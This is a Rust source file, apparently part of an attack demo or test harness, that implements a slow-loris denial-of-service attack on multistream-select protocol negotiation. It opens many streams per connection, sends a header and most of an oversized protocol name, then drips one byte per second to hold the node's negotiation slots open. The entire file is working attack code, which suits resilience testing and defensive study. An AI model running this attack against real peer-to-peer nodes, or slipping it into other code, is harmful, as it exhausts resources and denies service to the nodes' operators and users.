//! A slow-loris on multistream-select: streams that say a header and most of a name, and the rest of
//! it a byte now and then.

use std::{io, time::Duration};

use tokio::time::interval;

use super::{Attacker, pace::Pace, wire::Wire};
use crate::demo::multistream;

pub const CONNECTIONS: u32 = 64;

/// The length of the name: as long as a frame may be.
const NAME: usize = 16_000;
/// What comes of it at once.
const BEGUN: usize = 15_000;
/// Streams of a connection: the node negotiates 128 at once, and keeps 256 waiting.
const STREAMS: u32 = 384;
const PAUSE: Duration = Duration::from_secs(1);

pub async fn run(attacker: Attacker, mut wire: Wire, mut pace: Pace) -> io::Result<()> {
    wire.listen();
    let mut drip = interval(PAUSE);
    let mut streams = Vec::new();
    let mut bytes = Vec::new();
    multistream::line(&mut bytes, multistream::HEADER);
    multistream::length(&mut bytes, NAME);
    bytes.push(b'/');
    bytes.resize(bytes.len() + BEGUN, b'x');
    loop {
        tokio::select! {
            due = pace.due(), if streams.len() < STREAMS as usize => {
                for _ in 0..due.min(STREAMS - streams.len() as u32) {
                    streams.push(wire.open(&bytes));
                    attacker.tried(1);
                }
            }
            _ = drip.tick() => {
                for stream in &streams {
                    wire.data(*stream, b"x");
                }
            }
        }
        wire.send().await?;
    }
}
